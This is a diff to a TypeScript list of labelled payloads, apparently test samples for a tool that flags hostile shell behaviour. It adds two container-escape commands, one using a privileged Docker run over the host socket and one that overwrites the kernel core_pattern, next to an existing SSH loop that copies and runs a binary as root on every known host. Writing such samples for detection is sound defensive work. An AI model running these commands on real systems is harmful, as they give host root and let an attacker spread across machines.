@@ -72,6 +72,12 @@ export const BEHAVING: readonly Payload[] = [
     'over SSH',
     'for h in $(awk "{print \\$1}" ~/.ssh/known_hosts); do scp -o StrictHostKeyChecking=no /opt/svc/engine root@$h:/tmp/e; ssh -o StrictHostKeyChecking=no root@$h /tmp/e; done',
   ),
+  does(
+    'escapes',
+    'by the engine',
+    'docker -H unix:///var/run/docker.sock run -d --privileged -v /:/host alpine chroot /host sh -c id',
+  ),
+  does('escapes', 'by the kernel', 'echo "|/opt/svc/engine" > /proc/sys/kernel/core_pattern'),
   {
     class: 'at start: decode and run',
     kind: 'command',
